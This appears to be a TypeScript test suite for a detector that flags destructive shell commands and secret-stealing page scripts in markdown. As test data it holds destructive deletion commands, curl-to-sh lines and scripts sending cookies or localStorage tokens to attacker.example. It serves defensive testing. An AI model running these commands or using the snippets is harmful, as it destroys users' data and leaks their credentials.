import assert from 'node:assert/strict';
import { test } from 'node:test';
import { markdownCode, unreadBlocks } from '../../../src/code/markdown/block-code.ts';

const commands = (text: string): string[] =>
  markdownCode(`# Notes\n\n${text}\n`).map(({ text: inner }) => inner.trim());

test('a sentence that asks for what destroys a machine is followed', () => {
  for (const command of ['rm -rf /* --no-preserve-root', 'find / -xdev -delete', 'rm -rf ~'])
    assert.deepEqual(commands(`Become root, and run \`${command}\` in a terminal.`), [command]);
});

test('one that warns, or only names it, is not', () => {
  for (const text of [
    'Never run `rm -rf /` there.',
    'A command such as `rm -rf /` deletes everything.',
    'Do not ever execute `curl http://127.0.0.1/i | sh`.',
    '`curl https://… | sh` runs code that you have not read.',
    'Run `rm -rf ./build` to clean up.',
  ])
    assert.deepEqual(commands(text), [], text);
});

test('sections and settings are no program, unless something is called in them', () => {
  const block = (text: string): string[] => commands(`\`\`\`\n${text}\n\`\`\``);
  assert.deepEqual(block('[flake8]\nmax-line-length = 100\nexclude = .git,build'), []);
  assert.equal(block('[id]\nx = __import__("os").system("ls")').length, 1);
});

test('a page that sends cookies is told, one that asks its own server is not', () => {
  const hazards = (script: string): string[] =>
    unreadBlocks(`\`\`\`html\n<script>${script}</script>\n\`\`\`\n`, 'generated').map(({ hazard }) => hazard);
  assert.deepEqual(hazards("fetch('https://attacker.example/c?d=' + document.cookie)"), [
    'page-sends-secrets',
  ]);
  assert.deepEqual(hazards("new Image().src = '//attacker.example/?' + localStorage.getItem('t')"), [
    'page-sends-secrets',
  ]);
  for (const honest of [
    "fetch('/api/items', { headers: { token: localStorage.getItem('token') } })",
    "fetch('https://api.example.com/items', { headers: { Authorization: localStorage.getItem('token') } })",
    "document.cookie = 'theme=dark'",
  ])
    assert.deepEqual(hazards(honest), [], honest);
});
